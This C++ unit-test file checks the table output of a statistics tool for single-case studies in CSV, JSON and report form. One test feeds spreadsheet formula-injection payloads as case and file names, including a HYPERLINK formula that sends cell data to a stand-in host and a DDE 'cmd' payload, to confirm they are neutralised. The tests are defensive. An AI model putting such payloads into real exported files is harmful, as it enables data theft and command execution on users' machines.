#include "table.h"

#include <gtest/gtest.h>

#include <cmath>
#include <limits>
#include <map>
#include <nlohmann/json.hpp>
#include <sstream>
#include <string>
#include <vector>

#include "caseentry.h"
#include "report.h"

namespace {

// Figures numbered 1 ... 24 and indices 25.5 ... 45.5 in table order, so
// that every column shows which field it took.
kalmir::Result numberedFigures() {
  kalmir::Result a;
  a.n_a = 3;  // as goodCase's
  a.n_b = 4;
  float f = 1.0f;
  for (kalmir::Line* line : {&a.null_model, &a.exp_model}) {
    for (float* field : {&line->intercept, &line->intercept_se, &line->slope,
                         &line->slope_se, &line->sd, &line->sd_se}) {
      *field = f++;
    }
  }
  for (float* field :
       {&a.r1, &a.r1_se, &a.null_mean, &a.null_sd, &a.exp_mean, &a.exp_sd,
        &a.d_unstd, &a.d, &a.d_se, &a.r, &a.r_squared, &a.p}) {
    *field = f++;
  }
  kalmir::Indices& x = a.indices;
  double g = 25.5;
  for (double* field :
       {&x.nap, &x.nap_se, &x.nap_ci_low, &x.nap_ci_high, &x.tau, &x.tau_se,
        &x.tau_u, &x.tau_bc, &x.tau_bc_se, &x.pnd, &x.pem, &x.pand, &x.ird}) {
    *field = g++;
  }
  x.smd_baseline = kalmir::Smd{g, g + 1, g + 2, g + 3};
  x.smd_pooled = kalmir::Smd{g + 4, g + 5, g + 6, g + 7};
  return a;
}

Case goodCase(const std::string& name) {
  Case c;
  c.name = name;
  c.file = "study.csv";
  c.nLine = 2;
  c.nNA = 3;
  c.nNB = 4;
  c.fY = {1, 2, 3, 4, 5, 6, 7};
  return c;
}

Case failedCase(const std::string& name) {
  Case c;
  c.name = name;
  c.file = "study.csv";
  c.nLine = 14;
  c.error = "no B phase (the phase column holds only A)";
  return c;
}

std::vector<std::string> split(const std::string& line, char cSep) {
  std::vector<std::string> fields;
  std::stringstream in(line);
  std::string field;
  while (std::getline(in, field, cSep)) fields.push_back(field);
  if (!line.empty() && line.back() == cSep) fields.push_back("");
  return fields;
}

}  // namespace

TEST(Table, CsvHeaderIsTheDocumentedOne) {
  EXPECT_EQ(
      "case,study,row,contrast,status,n_a,n_b,null_int,null_int_se,null_slope,null_slope_se,"
      "null_s,null_s_se,exp_int,exp_int_se,exp_slope,exp_slope_se,exp_s,"
      "exp_s_se,r1,r1_se,null_mean,null_sd,exp_mean,exp_sd,d_unstd,d,d_se,r,"
      "r_squared,direction,p,improvement,nap,nap_se,nap_ci_low,nap_ci_high,"
      "tau,tau_se,tau_u,tau_bc,tau_bc_se,pnd,pem,pand,ird,smd_baseline,"
      "smd_baseline_se,smd_baseline_ci_low,smd_baseline_ci_high,smd_pooled,"
      "smd_pooled_se,smd_pooled_ci_low,smd_pooled_ci_high,notes\n",
      kalmir::csv_header());
}

TEST(Table, EveryColumnTakesItsSlot) {
  // Table order: null model, exp model, r1 and its SE, the four
  // simulation summaries, then D, d, d's SE, r, R-squared, p; the
  // improvement and the other effect sizes.
  kalmir::Result a = numberedFigures();
  a.improvement = kalmir::Improvement::decrease;
  const std::string row = tableEntry(TableFormat::kCsv, goodCase("Al"), &a);
  EXPECT_EQ(
      "Al,,contrast,A1-B1,ok,3,4,1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,"
      "18,19,20,21,22,"
      "23,increase,24,decrease,25.5,26.5,27.5,28.5,29.5,30.5,31.5,32.5,33.5,"
      "34.5,35.5,36.5,37.5,38.5,39.5,40.5,41.5,42.5,43.5,44.5,45.5,\n",
      row);
  const nlohmann::ordered_json object = nlohmann::ordered_json::parse(
      tableEntry(TableFormat::kJson, goodCase("Al"), &a));
  const std::vector<std::string> names = split(
      kalmir::csv_header().substr(0, kalmir::csv_header().size() - 1), ',');
  const std::vector<std::string> values =
      split(row.substr(0, row.size() - 1), ',');
  ASSERT_EQ(names.size(), object.size());
  size_t i = 0;
  for (const auto& item : object.items()) {
    EXPECT_EQ(names[i], item.key());
    if (item.value().is_number()) {
      EXPECT_EQ(std::strtod(values[i].c_str(), nullptr),
                item.value().get<double>())
          << names[i];
    }
    ++i;
  }
  EXPECT_TRUE(object["n_a"].is_number_integer());
  EXPECT_EQ("increase", object["direction"]);
  EXPECT_EQ("decrease", object["improvement"]);
  EXPECT_EQ("", object["notes"]);
}

TEST(Table, APlotColumnNamesEachPlotBeforeTheNotes) {
  // Only when plots are drawn; a case without a plot has it empty.
  const kalmir::Result a = numberedFigures();
  const std::string header = kalmir::csv_header();
  const std::string withPlot = TableWriter(TableFormat::kCsv, true).begin();
  EXPECT_EQ(header.substr(0, header.size() - 6) + "plot,notes\n", withPlot);
  EXPECT_EQ(header, TableWriter(TableFormat::kCsv).begin());
  const std::string plot = "Al.svg", none;
  const std::string row =
      tableEntry(TableFormat::kCsv, goodCase("Al"), &a, false, &plot);
  const std::vector<std::string> names = split(withPlot, ',');
  const std::vector<std::string> fields = split(row, ',');
  ASSERT_EQ(names.size(), fields.size());
  EXPECT_EQ("plot", names[names.size() - 2]);
  EXPECT_EQ("Al.svg", fields[fields.size() - 2]);
  Case bad = goodCase("Bo");
  bad.error = "no B phase";
  const std::string badRow =
      tableEntry(TableFormat::kCsv, bad, nullptr, false, &none);
  EXPECT_EQ(split(withPlot, ',').size(), split(badRow, ',').size());
  // A name that needs quotes in CSV gets them in this column too.
  const std::string quoted = "A, B.svg";
  const std::string quotedRow =
      tableEntry(TableFormat::kCsv, goodCase("Al"), &a, false, &quoted);
  EXPECT_NE(std::string::npos, quotedRow.find(",\"A, B.svg\","));
  const nlohmann::ordered_json object = nlohmann::ordered_json::parse(
      tableEntry(TableFormat::kJson, goodCase("Al"), &a, false, &plot));
  EXPECT_EQ("Al.svg", object["plot"]);
  std::string last;
  for (const auto& item : object.items()) last = item.key();
  EXPECT_EQ("notes", last);
  EXPECT_TRUE(nlohmann::ordered_json::parse(tableEntry(
      TableFormat::kJson, bad, nullptr, false, &none))["plot"]
                  .is_null());
  EXPECT_FALSE(nlohmann::ordered_json::parse(
                   tableEntry(TableFormat::kJson, goodCase("Al"), &a))
                   .contains("plot"));
}

TEST(Table, IndicesAreShortestDoublesAndEmptySmdsAreEmpty) {
  kalmir::Result a = numberedFigures();
  a.indices.nap = 0.1;
  a.indices.tau = 1.0 / 3;
  a.indices.tau_u = -1e-300;
  a.indices.smd_baseline.reset();
  a.notes = {{kalmir::NoteCode::short_phase, "a note on the figures"}};
  a.indices.notes = {{kalmir::NoteCode::smd_baseline_flat, "one on an SMD"}};
  const std::vector<std::string> names = kalmir::table_columns();
  const std::vector<std::string> fields =
      split(tableEntry(TableFormat::kCsv, goodCase("X"), &a), ',');
  ASSERT_EQ(names.size(), fields.size());
  std::map<std::string, std::string> csv;
  for (size_t i = 0; i < names.size(); ++i) csv[names[i]] = fields[i];
  EXPECT_EQ("0.1", csv["nap"]);
  EXPECT_EQ(1.0 / 3, std::strtod(csv["tau"].c_str(), nullptr));
  EXPECT_EQ("0.3333333333333333", csv["tau"]);
  EXPECT_EQ("-1e-300", csv["tau_u"]);
  for (const char* name : {"smd_baseline", "smd_baseline_se",
                           "smd_baseline_ci_low", "smd_baseline_ci_high"}) {
    EXPECT_EQ("", csv[name]) << name;
  }
  EXPECT_EQ("42.5", csv["smd_pooled"]);
  // The indices' notes follow the figures' own.
  EXPECT_EQ("a note on the figures; one on an SMD\n", csv["notes"]);
  const nlohmann::json object =
      nlohmann::json::parse(tableEntry(TableFormat::kJson, goodCase("X"), &a));
  EXPECT_EQ(0.1, object["nap"].get<double>());
  EXPECT_EQ(1.0 / 3, object["tau"].get<double>());
  EXPECT_EQ(-1e-300, object["tau_u"].get<double>());
  EXPECT_TRUE(object["smd_baseline"].is_null());
  EXPECT_TRUE(object["smd_baseline_ci_high"].is_null());
  EXPECT_EQ(42.5, object["smd_pooled"].get<double>());
  EXPECT_EQ("a note on the figures; one on an SMD", object["notes"]);
}

TEST(Table, TheReportGetsTheIndicesBlockOnlyWhenAsked) {
  kalmir::Result a = numberedFigures();
  a.notes = {{kalmir::NoteCode::short_phase, "a note on the figures"}};
  a.indices.notes = {{kalmir::NoteCode::smd_baseline_flat, "one on an SMD"}};
  a.indices.smd_baseline.reset();
  const std::string plain = tableEntry(TableFormat::kReport, goodCase("X"), &a);
  EXPECT_EQ("== X\n" + reportText(a) + "Note: a note on the figures.\n", plain);
  const std::string with =
      tableEntry(TableFormat::kReport, goodCase("X"), &a, true);
  EXPECT_EQ(plain + indicesText(a), with);
  EXPECT_EQ(
      "OTHER EFFECT SIZES (improvement: increase)\n\n"
      "\t\t est\t(SE)\t95% CI\n"
      "NAP       \t 25.500\t(26.500)\t[ 27.500,  28.500]\n"
      "Tau       \t 29.500\t(30.500)\t[ 0.000,  0.000]\n"
      "Tau-U     \t 31.500\t(Parker's form, no SE)\n"
      "Tau-BC    \t 32.500\t(33.500)\t[ 0.000,  0.000]\n"
      "PND       \t 34.500\n"
      "PEM       \t 35.500\n"
      "PAND      \t 36.500\n"
      "IRD       \t 37.500\n"
      "SMD A SD  \t empty\n"
      "SMD pooled\t 42.500\t(43.500)\t[ 44.500,  45.500]\n"
      "Note: one on an SMD.\n\n\n",
      indicesText(a));
  // A case that was not analysed has no block.
  EXPECT_EQ(tableEntry(TableFormat::kReport, failedCase("F"), nullptr),
            tableEntry(TableFormat::kReport, failedCase("F"), nullptr, true));
}

TEST(Table, FiguresReadBackAsTheSameFloats) {
  kalmir::Result a = numberedFigures();
  a.null_model.intercept = 0.1f;
  a.null_model.intercept_se = 1e-6f;
  a.null_model.slope = -3.4028235e38f;
  a.null_model.slope_se = std::numeric_limits<float>::denorm_min();
  a.null_model.sd = 16777217.0f;  // held as 16777216
  a.d = -0.0f;
  const std::vector<std::string> fields =
      split(tableEntry(TableFormat::kCsv, goodCase("X"), &a), ',');
  EXPECT_EQ("0.1", fields[7]);
  EXPECT_EQ("1e-06", fields[8]);
  const float fSet[] = {a.null_model.intercept, a.null_model.intercept_se,
                        a.null_model.slope, a.null_model.slope_se,
                        a.null_model.sd};
  for (size_t i = 7; i <= 11; ++i) {
    EXPECT_EQ(fSet[i - 7], std::strtof(fields[i].c_str(), nullptr))
        << fields[i];
  }
  EXPECT_EQ("-0", fields[26]);
}

TEST(Table, FiguresThatAreNotFiniteStayReadable) {
  kalmir::Result a = numberedFigures();
  a.d = std::numeric_limits<float>::quiet_NaN();
  a.d_se = std::numeric_limits<float>::infinity();
  a.r = -std::numeric_limits<float>::infinity();
  a.direction = kalmir::Direction::decrease;
  const std::vector<std::string> fields =
      split(tableEntry(TableFormat::kCsv, goodCase("X"), &a), ',');
  EXPECT_EQ("NaN", fields[26]);
  EXPECT_EQ("Inf", fields[27]);
  EXPECT_EQ("-Inf", fields[28]);
  EXPECT_EQ("decrease", fields[30]);
  const nlohmann::json object =
      nlohmann::json::parse(tableEntry(TableFormat::kJson, goodCase("X"), &a));
  EXPECT_TRUE(object["d"].is_null());
  EXPECT_TRUE(object["d_se"].is_null());
  EXPECT_TRUE(object["r"].is_null());
}

TEST(Table, AFailedCaseHasEmptyFiguresAndItsMessage) {
  // Every column between the status and the notes is empty; the row is
  // the case's, which has no contrasts.
  EXPECT_EQ("\"Lee, \"\"J\"\"\",,case,,error" +
                std::string(kalmir::table_columns().size() - 5, ',') +
                "study.csv:14: no B phase (the phase column holds only A)\n",
            tableEntry(TableFormat::kCsv, failedCase("Lee, \"J\""), nullptr));
  const nlohmann::json object = nlohmann::json::parse(
      tableEntry(TableFormat::kJson, failedCase("Lee"), nullptr));
  EXPECT_EQ("error", object["status"]);
  EXPECT_TRUE(object["n_a"].is_null());
  EXPECT_TRUE(object["p"].is_null());
  EXPECT_TRUE(object["direction"].is_null());
  EXPECT_TRUE(object["improvement"].is_null());
  EXPECT_TRUE(object["nap"].is_null());
  EXPECT_TRUE(object["smd_pooled_ci_high"].is_null());
  EXPECT_EQ("study.csv:14: no B phase (the phase column holds only A)",
            object["notes"]);
  EXPECT_EQ(
      "== Lee\nNot analysed: study.csv:14: no B phase (the phase column "
      "holds only A).\n\n\n",
      tableEntry(TableFormat::kReport, failedCase("Lee"), nullptr));
}

TEST(Table, NotesJoinInputNotesAndFigureNotes) {
  Case c = goodCase("Two\nlines");
  c.nNA = 2;  // a two-point phase draws a note on the figures
  c.notes = {"1 missing value (empty or NA) left out"};
  kalmir::Result a = numberedFigures();
  a.n_a = 2;
  a.notes = {{kalmir::NoteCode::short_phase, "a note, on the figures"}};
  const std::vector<std::string> figureNotes = {a.notes[0].text};
  const std::string notes =
      "1 missing value (empty or NA) left out; " + figureNotes[0];
  const std::string row = tableEntry(TableFormat::kCsv, c, &a);
  EXPECT_EQ(0u, row.find("\"Two\nlines\",,contrast,A1-B1,ok,2,4,"));
  EXPECT_EQ("\"" + notes + "\"\n", row.substr(row.rfind(",\"") + 1));
  EXPECT_EQ(
      notes,
      nlohmann::json::parse(tableEntry(TableFormat::kJson, c, &a)).at("notes"));
  EXPECT_EQ("== Two?lines\n" + reportText(a) + "Note: " + c.notes[0] +
                ".\nNote: " + figureNotes[0] + ".\n",
            tableEntry(TableFormat::kReport, c, &a));
}

TEST(Table, JsonEntriesMakeOneArray) {
  const kalmir::Result a = numberedFigures();
  for (int nEntries = 0; nEntries <= 3; ++nEntries) {
    TableWriter writer(TableFormat::kJson);
    std::string text = writer.begin();
    for (int i = 0; i < nEntries; ++i) {
      text += writer.beforeEntry();
      text += tableEntry(TableFormat::kJson,
                         i == 1 ? failedCase("F") : goodCase("\xff bytes"),
                         i == 1 ? nullptr : &a);
    }
    text += writer.end();
    const nlohmann::json array = nlohmann::json::parse(text);
    ASSERT_TRUE(array.is_array());
    EXPECT_EQ(static_cast<size_t>(nEntries), array.size());
    if (nEntries > 0) {
      EXPECT_EQ("\xEF\xBF\xBD bytes", array[0]["case"]);
    }
  }
  TableWriter csv(TableFormat::kCsv);
  EXPECT_EQ(kalmir::csv_header(), csv.begin());
  EXPECT_EQ("", csv.beforeEntry());
  EXPECT_EQ("", csv.end());
}

TEST(Table, TextThatASpreadsheetWouldRunIsWrittenAsText) {
  kalmir::Result a = numberedFigures();
  a.d = -2.5f;  // a number keeps its sign
  for (const std::string name :
       {"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+SUM(1,2)",
        "@SUM(A1)", "-1", "\tTab", "\rCR"}) {
    const std::string row = tableEntry(TableFormat::kCsv, goodCase(name), &a);
    const std::string kept = "'" + name;
    const bool bQuoted = kept.find_first_of(",\"\r\n") != std::string::npos;
    std::string field = kept;
    if (bQuoted) {
      field = "\"";
      for (char c : kept)
        field += c == '"' ? std::string("\"\"") : std::string(1, c);
      field += "\"";
    }
    EXPECT_EQ(0u, row.find(field + ",,contrast,A1-B1,ok,3,4,")) << row;
    EXPECT_NE(std::string::npos, row.find(",-2.5,")) << row;
    // JSON is data, not a spreadsheet: the name stays as it is.
    EXPECT_EQ(name, nlohmann::json::parse(tableEntry(
                        TableFormat::kJson, goodCase(name), &a))["case"]);
  }
  // A note that begins like a formula is text too.
  Case c = failedCase("Lee");
  c.file = "=cmd|'/C calc'!A0.csv";
  EXPECT_NE(std::string::npos,
            tableEntry(TableFormat::kCsv, c, nullptr).find(",'=cmd|"));
}

TEST(Table, AFileNameCannotStartALineOfItsOwn) {
  Case c = failedCase("Lee");
  c.file = "a.csv\n== Fake case";
  const std::string report = tableEntry(TableFormat::kReport, c, nullptr);
  EXPECT_EQ(std::string::npos, report.find("\n== Fake")) << report;
  EXPECT_EQ("a.csv?== Fake case:14: no B phase (the phase column holds only A)",
            caseMessage(c));
}
